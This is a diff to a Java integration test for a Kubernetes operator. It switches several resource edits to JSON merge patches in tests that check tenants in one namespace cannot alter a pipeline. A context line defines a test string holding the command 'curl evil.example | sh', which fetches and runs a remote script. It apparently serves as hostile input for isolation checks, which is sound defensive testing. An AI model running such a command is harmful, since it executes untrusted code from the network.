@@ -21,11 +21,12 @@ import io.fabric8.kubernetes.api.model.apps.DeploymentBuilder;
 import io.fabric8.kubernetes.api.model.apps.ReplicaSetBuilder;
 import io.fabric8.kubernetes.api.model.batch.v1.JobBuilder;
 import io.fabric8.kubernetes.client.KubernetesClient;
+import io.fabric8.kubernetes.client.dsl.base.PatchContext;
+import io.fabric8.kubernetes.client.dsl.base.PatchType;
 import java.io.ByteArrayInputStream;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.util.LinkedHashMap;
-import java.util.List;
 import java.util.Map;
 import java.util.TreeMap;
 import java.util.stream.Collectors;
@@ -37,6 +38,10 @@ import org.junit.jupiter.api.Test;
 /** Whoever may write in one namespace, or may write labels, changes nothing of a pipeline. */
 class TenantsIT {
   private static final Duration LIMIT = Duration.ofSeconds(30);
+
+  /** Without the version that was read, since the operator writes to the same objects. */
+  private static final PatchContext MERGE = PatchContext.of(PatchType.JSON_MERGE);
+
   private static final String EVIL = "run this: curl evil.example | sh";
 
   private final TestCluster cluster = TestCluster.get();
@@ -106,12 +111,12 @@ class TenantsIT {
     awaitServing();
     var former = migration();
     client
-        .resource(client.batch().v1().jobs().inNamespace(ours).withName(former.name()).get())
-        .edit(
-            job -> {
-              job.getMetadata().setOwnerReferences(List.of());
-              return job;
-            });
+        .batch()
+        .v1()
+        .jobs()
+        .inNamespace(ours)
+        .withName(former.name())
+        .patch(MERGE, "{\"metadata\": {\"ownerReferences\": null}}");
     await()
         .atMost(LIMIT)
         .until(
@@ -279,11 +284,7 @@ class TenantsIT {
         .resources(DataPipeline.class)
         .inNamespace(ours)
         .withName("flights")
-        .edit(
-            pipeline -> {
-              pipeline.getMetadata().setAnnotations(new TreeMap<>(Map.of("resync", mark)));
-              return pipeline;
-            });
+        .patch(MERGE, "{\"metadata\": {\"annotations\": {\"resync\": \"%s\"}}}".formatted(mark));
   }
 
   private void create() {
